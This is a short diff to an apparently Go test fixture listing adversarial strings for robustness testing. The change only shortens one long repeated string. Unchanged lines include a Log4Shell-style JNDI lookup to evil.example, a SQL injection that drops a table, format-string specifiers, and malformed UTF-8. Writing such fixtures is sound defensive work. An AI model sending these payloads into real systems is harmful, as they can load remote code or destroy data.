@@ -41,7 +41,7 @@ var hostileTexts = []string{
 	`"lone \ud83d surrogate \udc00 and \ud83d\ude80 a pair"`,
 	"\"invalid \xff\xfe \xc3( UTF-8 \xed\xa0\x80\"",
 	`"2026-01-01] (x) {y} ${jndi:ldap://evil.example} %s %d %n '; DROP TABLE runs;--"`,
-	`"` + strings.Repeat("long ", 400) + `"`,
+	`"` + strings.Repeat("long ", 300) + `"`,
 	`"\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd \u65e5\u672c\u8a9e e\u0301\u0301\u0301 \ud83d\udc69\u200d\ud83d\udc69"`,
 	`" "`, `"\u00a0"`,
 }
